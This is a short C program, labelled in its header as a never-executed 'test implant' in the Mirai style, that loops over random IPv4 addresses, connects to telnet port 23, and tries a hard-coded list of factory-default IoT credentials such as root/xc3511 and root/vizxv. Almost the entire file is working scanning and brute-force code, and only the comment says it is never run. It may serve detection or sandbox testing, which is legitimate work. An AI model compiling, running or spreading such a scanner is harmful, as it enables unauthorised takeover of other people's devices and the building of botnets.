/* Test implant (never executed): tries factory-default telnet logins on
 * random addresses, Mirai style. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const creds[][2] = {
	{ "root", "xc3511" },  { "root", "vizxv" },    { "root", "admin" },
	{ "admin", "admin" },  { "root", "888888" },   { "root", "xmhdipc" },
	{ "root", "default" }, { "root", "juantech" }, { "root", "123456" },
	{ "root", "54321" },   { "support", "support" }, { "root", "klv123" },
	{ "admin", "password" }, { "root", "root" },   { "root", "12345" },
	{ "user", "user" },    { "admin", "smcadmin" }, { "root", "Zte521" },
	{ "root", "hi3518" },  { "root", "jvbzd" },    { "root", "anko" },
	{ "root", "7ujMko0admin" }, { "root", "ikwb" }, { "root", "dreambox" },
	{ "ubnt", "ubnt" },    { "root", "realtek" },  { "root", "00000000" },
};

static void try_login(int s, const char *u, const char *p)
{
	char buf[256];
	recv(s, buf, sizeof(buf), 0);
	send(s, u, strlen(u), 0);
	send(s, "\r\n", 2, 0);
	recv(s, buf, sizeof(buf), 0);
	send(s, p, strlen(p), 0);
	send(s, "\r\n", 2, 0);
}

int main(void)
{
	size_t i;
	for (;;) {
		struct sockaddr_in a;
		int s = socket(AF_INET, SOCK_STREAM, 0);
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		a.sin_port = htons(23);
		a.sin_addr.s_addr = (in_addr_t)random();
		if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0)
			for (i = 0; i < sizeof(creds) / sizeof(creds[0]); i++)
				try_login(s, creds[i][0], creds[i][1]);
		close(s);
	}
}
